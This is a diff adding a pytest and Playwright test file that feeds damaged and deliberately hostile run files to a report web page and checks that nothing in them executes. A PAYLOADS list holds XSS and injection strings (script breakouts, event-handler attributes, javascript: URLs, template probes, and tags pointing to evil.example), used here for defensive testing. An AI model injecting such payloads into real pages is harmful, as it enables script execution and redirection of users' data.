@@ -1,0 +1,183 @@
+"""Thousands of damaged run files in a real browser, and pages built of hostile ones: nothing of theirs ever runs."""
+
+from __future__ import annotations
+
+import base64
+import copy
+import random
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+
+from reports.runfile import BadInput, read_runs
+from suites.selfcheck import synthetic, test_fuzz
+from suites.selfcheck.pages import Reader, build, watched
+from suites.selfcheck.test_page_axe import VIEWS
+
+GUARD = Path(__file__).with_name("guard.js").read_text("utf-8")
+EACH, BATCH = 1000, 250
+GOOD = test_fuzz.GOOD
+DAMAGES = ("cut", "flipped", "pasted", "shuffled", "spoiled", "marked", "deep")
+#: Reads files as My build does when they are dropped, opens all that it shows, and looks at the whole page after each.
+READ = """async (texts) => {
+  const told = [];
+  for (const text of texts) {
+    const bytes = Uint8Array.from(atob(text), (sign) => sign.charCodeAt(0));
+    await chooseRuns([new File([bytes], "x.jsonl")]);
+    guard.open(byId("view-build"));
+    const [wrong, said] = [byId("build-wrong").textContent, byId("build-said").textContent];
+    const bad = [...guard.risky(byId("build-found")), ...guard.wrong(byId("view-build"))];
+    if (JSON.stringify(DATA) !== guard.data) bad.push("the data of the page is not what it was");
+    if (byId("matrix").outerHTML !== guard.matrix) bad.push("the matrix is not what it was");
+    told.push([wrong, said, mine && [mine.cells.size, mine.missing], bad]);
+  }
+  return told;
+}"""
+KEEP = 'guard.data = JSON.stringify(DATA); guard.matrix = byId("matrix").outerHTML;'
+
+
+@pytest.fixture(scope="module")
+def small(tmp_path_factory):
+    """Build a page that knows the clauses of the damaged files, and some more."""
+    folder = tmp_path_factory.mktemp("small")
+    table = synthetic.clauses(6, seed=5)
+    assert set(test_fuzz.TABLE) < set(table)
+    synthetic.write_verdicts(folder / "verdicts", table, ("2.0.0", "2.14.0", "2.15.0"))
+    return build(folder, table)
+
+
+def guarded(page, url, address=""):
+    page.add_init_script(GUARD)
+    return Reader(page, url).open(address).page
+
+
+def drawn(damage):
+    """Return the damaged files; the same ones every time."""
+    found = []
+
+    @test_fuzz.thorough(EACH)
+    @given(raw=getattr(test_fuzz, damage)())
+    def collect(raw):
+        found.append(raw)
+
+    collect()
+    return list(dict.fromkeys(found))
+
+
+def by_python(path, raw):
+    """Return how many cells there are and how many are missing, as Python finds it; nothing when it refuses."""
+    path.write_bytes(raw)
+    try:
+        runs = read_runs(path, partial=True)
+    except BadInput:
+        return None
+    # Several runs in one file may be of two torches, or tell of a cell twice: the page refuses those.
+    return [len(runs[0].cells), len(runs[0].missing)] if len(runs) == 1 else None
+
+
+@pytest.mark.parametrize("damage", DAMAGES)
+def test_no_damage_makes_the_page_fail_or_loses_what_is_good(browser, small, tmp_path, damage):
+    """Whatever is in the file: either it is shown or one line tells why not, and all that is good is read."""
+    raws, seen = drawn(damage), set()
+    with watched(browser) as page:
+        guarded(page, small.url, "#build").evaluate(KEEP)
+        for start in range(0, len(raws), BATCH):
+            batch = [*raws[start : start + BATCH], GOOD]
+            told = page.evaluate(READ, [base64.b64encode(raw).decode() for raw in batch])
+            for raw, (wrong, said, cells, bad) in zip(batch, told, strict=True):
+                assert bool(wrong) != bool(said)
+                assert "\n" not in wrong
+                assert bad == []
+                wanted = by_python(tmp_path / "run.jsonl", raw)
+                assert wanted is None or cells == wanted, (wrong, raw)
+                seen.add(bool(said))
+            assert told[-1][1].startswith("Torch 2.15 → your torch 2.15.0+cpu:")
+        assert page.evaluate("guard.hits") == []
+    assert seen == {True, False}
+
+
+def test_a_text_that_would_take_long_to_colour_stays_plain(reader):
+    text = '"\\' * 100_000
+    assert reader.page.evaluate("coloured", text) == [text]
+
+
+PAYLOADS = (
+    "</script><script>hit()</script>",
+    "<img src=x onerror=hit()>",
+    '" onmouseover="hit()" autofocus onfocus="hit()',
+    "' onload='hit()",
+    "<svg onload=hit()><animate onbegin=hit()>",
+    "<!--<script>hit()",
+    "--><script>hit()</script>",
+    "</style><style>@import 'https://evil.example/x.css'</style>",
+    "</title></textarea><iframe srcdoc='<script>parent.hit()</script>'>",
+    "javascript:hit()",
+    "data:text/html,<script>parent.hit()</script>",
+    "https://evil.example/\"><b onclick=hit()>",
+    "{{ cycler.__init__.__globals__ }}{% raw %}{# x",
+    "${hit()}`+hit()+`",
+    "&lt;script&gt;hit()&lt;/script&gt;&#x3c;img src=x onerror=hit()&#x3e;",
+    "<details open ontoggle=hit()><summary>x",
+    "<base href=https://evil.example/><form action=https://evil.example/><button>x",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "]]><script>hit()</script>",
+    "\u2028hit()\u2029\u202e<b>\u0000\x1b[31m",
+    "__proto__",
+)  # fmt: skip
+
+
+def hostile_lines(table, seed):
+    """Return the lines of a run in which every free string ends with something hostile."""
+    rng = random.Random(seed)
+    lines = copy.deepcopy(synthetic.run_lines(table, "2.16.0"))
+    lines[0]["torch"] = "2.16.0a0+git1a2b3c4"
+    for line in lines:
+        if line["type"] == "cell":
+            line.update(verdict="deviates", declared=rng.random() < 0.5, refuted=[], evidence=synthetic.evidence())
+    lines[-1] = synthetic.footer([line for line in lines if line["type"] == "cell"])
+    tails = {}
+    return [test_fuzz.hostile(line, tail=lambda text: tails.setdefault(text, rng.choice(PAYLOADS))) for line in lines]
+
+
+@pytest.mark.parametrize("seed", range(2))
+def test_a_page_built_of_a_hostile_run_runs_nothing_of_it(browser, built, tmp_path, seed):
+    table = synthetic.clauses(8, seed=seed, claims=2)
+    lines = hostile_lines(table, seed)
+    synthetic.write_verdicts(tmp_path / "verdicts", lines[0]["clauses"], ("2.14.0", "2.15.0"))
+    made = build(tmp_path, table, synthetic.write_lines(tmp_path / "run.jsonl", lines))
+    with watched(browser) as page:
+        wanted = guarded(page, built.url).evaluate("guard.risky(document)")
+        shown = ""
+        for address in [*VIEWS[:-1], *(f"#{name}" for name in table)]:
+            Reader(page, made.url).open(address)
+            if address == "#build":
+                page.set_input_files("#build-file", str(tmp_path / "run.jsonl"))
+                page.wait_for_selector("#build-said:not(:empty)")
+            page.evaluate("guard.open(document)")
+            shown += page.evaluate("document.body.textContent")
+            assert page.evaluate("guard.risky(document)") == wanted
+            assert page.evaluate("guard.wrong(document)") == []
+            assert page.evaluate("guard.hits") == []
+        for clause in lines[0]["clauses"].values():
+            assert clause["says"] in shown
+            assert clause["code"] in shown
+
+
+@pytest.mark.parametrize(
+    "markup", [PAYLOADS[1], PAYLOADS[4], "<details open ontoggle=hit()>", "<a href=javascript:hit()>x</a>"]
+)
+@pytest.mark.parametrize("bypass", [False, True])
+def test_the_guard_sees_what_would_run(browser, small, markup, bypass):
+    """Markup that became part of the page is found; a script that the policy stopped is noted, and one that ran."""
+    context = browser.new_context(bypass_csp=bypass)
+    page = guarded(context.new_page(), small.url, "#build")
+    page.evaluate(
+        "markup => { byId('build-found').innerHTML = markup; byId('build-found').querySelector('a')?.click(); }", markup
+    )
+    page.wait_for_function("guard.hits.length > 0")
+    hits = page.evaluate("guard.hits")
+    assert hits[0] == "hit called" if bypass else hits[0].startswith("script-src"), hits
+    assert page.evaluate("[...guard.risky(byId('build-found')), ...guard.wrong(byId('build-found'))]") != []
+    context.close()
